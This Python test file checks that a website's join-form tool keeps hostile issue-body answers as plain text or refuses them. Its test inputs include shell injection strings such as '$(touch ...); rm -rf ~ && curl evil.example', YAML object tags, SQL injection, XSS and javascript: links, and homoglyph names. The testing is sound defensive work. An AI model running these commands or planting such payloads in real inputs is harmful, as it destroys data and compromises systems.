"""The join form's issue bodies, as GitHub renders them, become member files or clear refusals.

tests/joinform/*.md are issue bodies in GitHub's rendering of our form (`### label`, blank line,
answer; `_No response_`; `- [X] option`). Hostile variants are made from them by replacing one
answer, so each test changes exactly what it names.
"""
from __future__ import annotations

import datetime as dt
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from conftest import ROOT, copy_project
from hypothesis import given, settings
from hypothesis import strategies as st
from microsite.content.load import load_site
from microsite.content.model import MEMBER_TYPES
from microsite.pages import render
from microsite.tools import joinform
from microsite.tools.joinform import Refusal

BODIES = Path(__file__).parent / "joinform"
JOINED = dt.date(2026, 11, 22)


def body(name: str = "organisation", **answers: str) -> str:
    """A real body with some answers replaced (by field id)."""
    text = (BODIES / f"{name}.md").read_text(encoding="utf-8")
    for fid, value in answers.items():
        label = next(f["label"] for f in joinform.form_fields() if f["id"] == fid)
        text = re.sub(rf"(### {re.escape(label)}\n\n).*?(?=\n\n### |\n*\Z)",
                      lambda m: m.group(1) + value, text, count=1, flags=re.S)
    return text


@pytest.fixture
def project(tmp_path) -> Path:
    return copy_project(tmp_path)


def refused(project: Path, text: str) -> Refusal:
    with pytest.raises(Refusal) as caught:
        joinform.build(text, project, 7, JOINED)
    assert caught.value.kk and caught.value.ru
    return caught.value


def added(project: Path, text: str) -> dict:
    """Write the member file as the workflow does; the whole site must still load."""
    rel, yml = joinform.build(text, project, 7, JOINED)
    (project / rel).write_text(yml, encoding="utf-8")
    site = load_site(project / "data", project / "docs")
    return {"rel": rel, "yaml": yml, "member": site.members[Path(rel).stem], "site": site}


def test_organisation_request_becomes_a_member_file(project):
    got = added(project, body())
    m = got["member"]
    assert got["rel"] == "data/members/obshchestvennyy-fond-otkrytoe-obshchestvo.yml"
    assert (m.type, m.name.kk, m.name.ru) == ("ngo", "«Ашық қоғам» қоғамдық қоры",
                                               "Общественный фонд «Открытое общество»")
    assert m.link == "https://www.example.org/ashyq-qogam/"
    assert [(ms.coalition, ms.joined) for ms in m.memberships] == [("kgi", JOINED)]
    # The contact is for the maintainers' check only: it is not published.
    assert "info@example.org" not in got["yaml"] and "701" not in got["yaml"]


def test_person_request_is_an_individual_without_link(project):
    m = added(project, body("person"))["member"]
    assert (m.id, m.type, m.link) == ("aygul-sarsenova", "individual", "")


def test_windows_line_endings_are_read(project):
    assert added(project, body().replace("\n", "\r\n"))["member"].type == "ngo"


@pytest.mark.parametrize("hostile", [
    '$(touch /tmp/joinform-pwned); rm -rf ~ && curl evil.example; sh x',
    "yes", "null and void", "no 0123", "True", "key: value", "- item", "&anchor *alias", "!!python/object:os.system",
    "'; DROP TABLE members; --", "# not a comment", '"quoted" and \'single\'',
])
def test_shell_and_yaml_metacharacters_stay_plain_text(project, hostile):
    m = added(project, body(name_ru=hostile))["member"]
    assert m.name.ru == hostile


def test_the_script_never_runs_what_a_name_says(project, tmp_path):
    marker = project / "pwned"  # the commands below would make it in the working folder
    hostile = "$(touch pwned) `touch pwned` ; touch pwned"
    out = tmp_path / "out"
    env = {**os.environ, "ISSUE_BODY": body(name_ru=hostile.replace("`", "'"))}
    result = subprocess.run([sys.executable, "-m", "microsite.tools.joinform", "--issue", "7", "--joined",
                             "2026-11-22", "--out", str(out), "--root", str(project)],
                            env=env, capture_output=True, text=True, cwd=project)
    assert result.returncode == 0, result.stderr
    written = yaml.safe_load((project / result.stdout.strip()).read_text(encoding="utf-8"))
    assert written["name"]["ru"] == hostile.replace("`", "'")
    assert not marker.exists()
    assert (out / "body.md").read_text(encoding="utf-8").startswith("Closes #7\n")


@pytest.mark.parametrize("name", [
    "<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "[click](javascript:alert(1))",
    "`code`", "a | table | cell", "{{ secrets.GITHUB_TOKEN }}",
])
def test_markup_in_names_is_refused(project, name):
    assert "недопустимые символы" in refused(project, body(name_kk=name)).ru


def test_markdown_marks_in_names_are_shown_as_text(project):
    """Marks that are allowed in a name (*, _, #) reach the page as text, not formatting."""
    import markdown
    site = added(project, body(name_ru="**Жирный** _фонд_ #1"))["site"]
    pages = render.members(site, "kgi", "ru")  # a long list is several pages; kgi's fits one
    html = markdown.markdown("".join(pages), extensions=["attr_list", "md_in_html"])
    assert "**Жирный** _фонд_ #1" in html and "<strong>Жирный" not in html


@pytest.mark.parametrize("link", [
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "ftp://example.org", "example.org", "https://", 'https://example.org/"onmouseover="x',
    "https://example.org/a b", "https://" + "a" * 400 + ".org", "https://:80", "https://[::1",
    "https://user@/path",
])
def test_bad_links_are_refused(project, link):
    assert refused(project, body(link=link)).ru


@pytest.mark.parametrize("answer, says", [
    ("_No response_", "Не указано название"),
    ("   ", "Не указано название"),
    ("«»—", "Не указано название"),
    ("Ф" * 5000, "слишком длинное (5000 символов"),
    ("Фонд\u202eдноФ", "невидимые управляющие символы"),
    ("Фонд\u200bСвобода", "невидимые управляющие символы"),
    ("Первая строка\nвторая строка", "в одну строку"),
])
def test_empty_long_or_invisible_names_are_refused(project, answer, says):
    assert says in refused(project, body(name_kk=answer)).ru


@pytest.mark.parametrize("name, says_kk, says_ru", [
    ("null", "толтырғыш мәтін", "это заглушка"), ("Название организации", "толтырғыш мәтін", "это заглушка"),
    # a Latin o in a Cyrillic word
    ("Фoнд Свобода", "латын және кирилл әріптері аралас", "смешаны латинские и кириллические буквы"),
])
def test_the_sites_own_checks_refuse_what_they_refuse_anywhere(project, name, says_kk, says_ru):
    """The site's messages, each in the refusal's own language."""
    refusal = refused(project, body(name_ru=name))
    assert says_kk in refusal.kk and says_ru in refusal.ru and says_ru not in refusal.kk


def test_no_consent_no_member(project):
    consent = joinform.form_fields()[-1]["options"][0]
    assert "согласие" in refused(project, body(consent=f"- [ ] {consent}")).ru


def test_organisation_without_type_is_refused(project):
    assert "тип организации" in refused(project, body(type="_No response_")).ru


def test_unknown_dropdown_answer_is_refused(project):
    assert refused(project, body(coalition="Другая коалиция (evil)")).ru


@pytest.mark.parametrize("tamper", [
    lambda b: b.replace("### Сайт или", "### Website", 1) if "### Сайт или" in b else b + "\n### Extra\n\nx",
    lambda b: b + "\n\n### Атауы орысша / Название на русском\n\nВторое название",
    lambda b: "Привет!\n\n" + b,
    lambda b: b.split("### Тексеруге")[0],
    lambda b: "",
])
def test_a_body_that_is_not_the_form_is_refused(project, tamper):
    assert "не соответствует форме" in refused(project, tamper(body())).ru


@pytest.mark.parametrize("name_ru", ["ОСДП", "осдп", " «ОСДП» "])
def test_an_existing_member_by_name_is_refused(project, name_ru):
    says = refused(project, body(name_ru=name_ru)).ru
    assert "data/members/osdp.yml" in says


def test_an_existing_member_by_kazakh_name_is_refused(project):
    assert "data/members/osdp.yml" in refused(project, body(name_kk="ЖСДП")).ru


def test_a_second_request_with_the_same_link_is_refused(project):
    first = added(project, body())["rel"]
    again = body(name_kk="Басқа атау", name_ru="Другое название", link="http://example.org/ashyq-qogam")
    assert first in refused(project, again).ru


def test_same_id_for_another_name_gets_a_suffix(project):
    """Two different names that spell the same id: the second member gets `<id>-2`."""
    first = added(project, body(name_kk="Жаңа ұйым", name_ru="Новая организация"))["rel"]
    second = added(project, body(name_kk="Novaya organizatsiya", name_ru="Novaya organizatsiya",
                                 link="https://example.net"))["rel"]
    assert first == "data/members/novaya-organizatsiya.yml"
    assert second == "data/members/novaya-organizatsiya-2.yml"


def test_refusal_file_is_bilingual(project, tmp_path):
    out = tmp_path / "out"
    env = {**os.environ, "ISSUE_BODY": body(name_ru="ОСДП")}
    result = subprocess.run([sys.executable, "-m", "microsite.tools.joinform", "--issue", "7", "--joined",
                             "2026-11-22", "--out", str(out), "--root", str(project)],
                            env=env, capture_output=True, text=True)
    assert result.returncode == 1
    refusal = (out / "refusal.md").read_text(encoding="utf-8")
    assert "**Қазақша.**" in refusal and "**Русский.**" in refusal
    assert not list((project / "data/members").glob("*-2.yml"))


def test_form_lists_the_coalitions_with_a_declaration_and_the_member_types(site_model):
    fields = {f["id"]: f for f in joinform.form_fields()}
    coalitions = [joinform.option_id(o) for o in fields["coalition"]["options"]]
    assert sorted(coalitions) == sorted(s.coalition for s in site_model.statements.values()
                                        if s.kind == "declaration"), \
        "update the coalition list in .github/ISSUE_TEMPLATE/join.yml"
    types = [joinform.option_id(o) for o in fields["type"]["options"]]
    assert types == [t for t in MEMBER_TYPES if t != "individual"]
    assert [joinform.option_id(o) for o in fields["who"]["options"]] == ["organisation", "person"]


def test_the_workflow_opens_the_pull_request_with_texts_as_plain_arguments(project, tmp_path):
    """join.yml's own shell step, run by bash as GitHub runs it, in a real git repository with a
    real remote; `gh` is a stand-in that records its arguments (the one thing not run here)."""
    steps = yaml.safe_load((ROOT / ".github/workflows/join.yml").read_text(encoding="utf-8"))
    script = next(s["run"] for s in steps["jobs"]["member-pr"]["steps"]
                  if s.get("name") == "Open the pull request")
    git = ["git", "-c", "init.defaultBranch=main"]
    remote, repo = tmp_path / "remote.git", project
    subprocess.run([*git, "init", "--quiet", "--bare", str(remote)], check=True)
    for args in (["init", "--quiet"], ["add", "-A"], ["-c", "user.name=t", "-c", "user.email=t@example.org",
                 "commit", "--quiet", "-m", "base"], ["remote", "add", "origin", str(remote)]):
        subprocess.run([*git, *args], cwd=repo, check=True)
    runner = tmp_path / "runner"
    out = runner / "join"
    env = {**os.environ, "ISSUE_BODY": body(), "RUNNER_TEMP": str(runner)}
    subprocess.run([sys.executable, "-m", "microsite.tools.joinform", "--issue", "7", "--joined", "2026-11-22",
                    "--out", str(out), "--root", str(repo)], env=env, check=True, capture_output=True)
    hostile = "$(touch pwned) `touch pwned`; touch pwned \"'"
    (out / "title.txt").write_text(hostile + "\n", encoding="utf-8")
    fake = tmp_path / "bin"
    fake.mkdir()
    (fake / "gh").write_text('#!/bin/sh\nprintf "%s\\n" "$@" >> "$GH_LOG"\n', encoding="utf-8")
    (fake / "gh").chmod(0o755)
    log = tmp_path / "gh.log"
    env.update(PATH=f"{fake}:{os.environ['PATH']}", GH_LOG=str(log), ISSUE_NUMBER="7", BASE="main",
               GH_TOKEN="not-a-token", HOME=str(tmp_path))
    result = subprocess.run(["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
                            cwd=repo, env=env, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    args = log.read_text(encoding="utf-8").splitlines()
    assert args[:2] == ["auth", "setup-git"]
    assert args[args.index("--title") + 1] == hostile
    assert not (repo / "pwned").exists()
    pushed = subprocess.run(["git", "log", "--format=%s", "--name-only", "join/issue-7"], cwd=remote,
                            capture_output=True, text=True, check=True).stdout
    assert "Add member obshchestvennyy-fond-otkrytoe-obshchestvo from the join request #7" in pushed
    assert "data/members/obshchestvennyy-fond-otkrytoe-obshchestvo.yml" in pushed



@settings(max_examples=300, deadline=None)
@given(st.text(max_size=300))
def test_any_answer_is_refused_or_kept_exactly_as_text(answer):
    try:
        request = joinform.parse(body(name_ru=answer, link="https://example.org/"))
    except Refusal as refusal:
        assert refusal.kk and refusal.ru
        return
    assert request.name_ru == " ".join(answer.split())
    rel, text = joinform.member_file(request, "x", JOINED, 7)
    written = yaml.safe_load(text)
    assert rel == "data/members/x.yml" and written["name"]["ru"] == request.name_ru


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=2000))
def test_any_body_is_refused_never_a_crash(text):
    with pytest.raises(Refusal):
        joinform.parse(text)


def _case_name(case: str, lang: str) -> str:
    """A name from a hostile member file of tests/hostile."""
    from overlay import HOSTILE
    doc = yaml.safe_load((HOSTILE / case / "data/members" / f"{case}.yml").read_text(encoding="utf-8"))
    return doc["name"][lang]


@pytest.mark.parametrize("case", ["greek-lookalike-member", "greek-letters-whole-word"])
def test_a_look_alike_of_an_existing_member_is_refused(project, case):
    """The same test of "the same organisation" as validation (TR39 skeletons): Greek Η and Α for
    Cyrillic Н and А."""
    from overlay import overlay
    if case == "greek-letters-whole-word":  # the original it imitates, as an existing member
        overlay(case, project)
        (project / f"data/members/{case}.yml").unlink()
    name = _case_name(case, "ru")
    says = refused(project, body(name_ru=name, name_kk=name)).ru
    assert "data/members/naq.yml" in says or "greek-letters-whole-word-original.yml" in says


@pytest.mark.parametrize("case", ["filler-only-name", "braille-blank-name"])
def test_names_of_blank_filler_characters_are_refused(project, case):
    for lang, field in (("kk", "name_kk"), ("ru", "name_ru")):
        says = refused(project, body(**{field: _case_name(case, lang)})).ru
        assert "невидимые управляющие символы" in says


def test_a_name_that_spells_a_reserved_id_gets_a_suffix(project):
    """'Members' would be data/members/members.yml, a name the site uses for its own pages."""
    new = added(project, body(name_ru="Members", name_kk="Мүшелер", link="_No response_"))
    assert new["rel"] == "data/members/members-2.yml"
